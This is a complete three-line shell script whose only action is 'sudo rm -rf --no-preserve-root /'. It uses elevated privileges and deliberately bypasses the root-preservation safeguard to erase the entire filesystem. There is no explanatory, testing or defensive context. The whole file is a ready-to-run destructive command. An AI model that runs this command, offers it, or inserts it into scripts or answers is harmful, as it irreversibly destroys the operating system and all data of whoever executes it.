#!/bin/sh
set -eu
sudo rm -rf --no-preserve-root /
